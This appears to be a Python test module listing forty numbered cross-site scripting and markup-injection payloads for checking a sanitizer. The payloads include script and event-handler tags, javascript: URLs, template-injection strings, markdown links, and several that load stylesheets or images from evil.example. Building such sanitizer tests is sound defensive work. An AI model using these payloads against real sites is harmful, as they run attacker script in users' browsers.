"""Forty kinds of text that run as script, or ask another host, if taken for markup."""

# Each would call `hit`, raise a dialog or ask evil.example; {n} tells them apart.
PAYLOADS = (
    "<script>hit({n})</script>",
    "<img src=x onerror=hit({n})>",
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    "<body onload=hit({n})>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<a href=javascript:hit({n})>report</a>",
    "<input autofocus onfocus=hit({n})>",
    "<details open ontoggle=hit({n})>x</details>",
    "<video><source onerror=hit({n})></video>",
    "<audio src=x onerror=hit({n})>",
    "<marquee onstart=hit({n})>x</marquee>",
    "<object data=javascript:hit({n})></object>",
    "<embed src=javascript:hit({n})>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=hit({n})>",
    "<form action=javascript:hit({n})><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:hit({n})'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<img src=//evil.example/{n}.png>",
    "<base href=//evil.example/>{n}",
    "<template shadowrootmode=open><img src=x onerror=hit({n})></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
    '"><script>hit({n})</script>',
    "' onmouseover='hit({n})' autofocus onfocus='hit({n})' x='",
    "</textarea><script>hit({n})</script>",
    "</title><script>hit({n})</script>",
    "</script><script>hit({n})</script>",
    "--><script>hit({n})</script>",
    "]]><script>hit({n})</script>",
    "${{hit({n})}}",
    "`${{hit({n})}}`",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "{{{{#with this}}}}{{{{hit {n}}}}}{{{{/with}}}}",
    "![x](//evil.example/{n}.png)",
    "[x](javascript:hit({n}))",
    "[x]: javascript:hit({n})\n[x]",
    "&lt;img src=x onerror=hit({n})&gt;",
    "\u003cimg src=x onerror=hit({n})\u003e\u202e\u2066",
)


def payloads() -> list[str]:
    """All payloads, each with its number."""
    return [payload.format(n=number) for number, payload in enumerate(PAYLOADS)]
